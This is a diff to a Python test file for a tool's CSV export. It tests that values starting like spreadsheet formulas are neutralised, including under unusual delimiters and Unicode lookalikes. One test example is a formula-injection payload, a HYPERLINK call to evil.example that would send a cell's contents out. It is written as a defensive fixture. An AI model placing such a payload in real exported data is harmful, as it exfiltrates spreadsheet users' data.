@@ -8,6 +8,8 @@ from typing import Any
 
 import pytest
 from hostile import dangerous_in, hostile_strings
+from hypothesis import example, given
+from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from batchtui.exchange.json_form import job_object
@@ -160,19 +162,56 @@ class TestCsv:
     def test_rows_say_all_of_a_rank(self) -> None:
         text = export(make_job(BATCH), BATCH, RESULTS, None, "csv")
         assert text.splitlines() == [
-            "external_reference,query,rank,index,id,score,relevance,context",
-            "refund-1,how long?,1,1,,0.75,,b",
-            "refund-1,how long?,2,0,doc-1,0.5,3,a",
-            "refund-1,how long?,3,2,,0.25,0,c",
+            '"external_reference","query","rank","index","id","score","relevance","context"',
+            '"refund-1","how long?",1,1,"",0.75,"","b"',
+            '"refund-1","how long?",2,0,"doc-1",0.5,3,"a"',
+            '"refund-1","how long?",3,2,"",0.25,0,"c"',
         ]
 
-    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "\n=", "＝"])
+    @pytest.mark.parametrize(
+        "start",
+        [
+            *"=+-@＝＋－＠﹢﹣﹦﹫−",
+            "\t=",
+            " =",
+            "\n=",
+            "\u00a0=",
+            "\u3000=",
+            "'=",
+            '" =',
+            "a;=",
+            "a|'\t@",
+            "a\n+",
+        ],
+    )
     def test_what_begins_like_a_formula_gets_an_apostrophe(self, start: str) -> None:
-        batch = make_batch([f"{start}1+1", "1=1", "a-b"])
-        text = export(make_job(batch), batch, make_results(batch, [3, 2, 1]), None, "csv")
+        batch = make_batch([f"{start}1+1", "1=1", "a-b", "a, -b"])
+        text = export(make_job(batch), batch, make_results(batch, [4, 3, 2, 1]), None, "csv")
         guarded, *others = [row["context"] for row in csv.DictReader(io.StringIO(text, newline=""))]
-        assert guarded.startswith("'")
-        assert others == ["1=1", "a-b"]
+        assert guarded.endswith(f"'{start[-1]}1+1")
+        assert others == ["1=1", "a-b", "a, -b"]
+
+    @given(
+        st.lists(st.text(st.sampled_from(";|,\t\n\r\"' =+-@\u00a0−a"), min_size=1), min_size=1, max_size=5)
+    )
+    @example(['price list;=HYPERLINK("http://evil.example/?"&A1,"click")'])
+    @example(["x\t;+1+cmd"])
+    @example(['a;"=1', 'a;";=1', "a;\n '=1"])
+    def test_no_cell_is_a_formula_wherever_a_reader_splits(self, texts: list[str]) -> None:
+        request = Request(texts[0], tuple(Context(text, text) for text in texts), texts[-1])
+        batch = Batch((request,))
+        text = export(make_job(batch), batch, make_results(batch), None, "csv")
+        for delimiter in ",;|\t":
+            for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE) if delimiter != "," else (csv.QUOTE_MINIMAL,):
+                for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting):
+                    for cell in row:
+                        assert not cell.lstrip(' \u00a0"').startswith(tuple("=+-@−\t\r"))
+
+    @pytest.mark.parametrize("delimiter", ",;|")
+    def test_a_text_stays_in_one_cell_of_a_reader_that_also_splits_elsewhere(self, delimiter: str) -> None:
+        batch = make_batch([f"a{delimiter}b"])
+        text = export(make_job(batch), batch, make_results(batch), None, "csv")
+        assert text.splitlines()[1].endswith(f'"a{delimiter}b"')
 
     def test_a_score_below_zero_is_a_number(self) -> None:
         batch = make_batch(["a"])
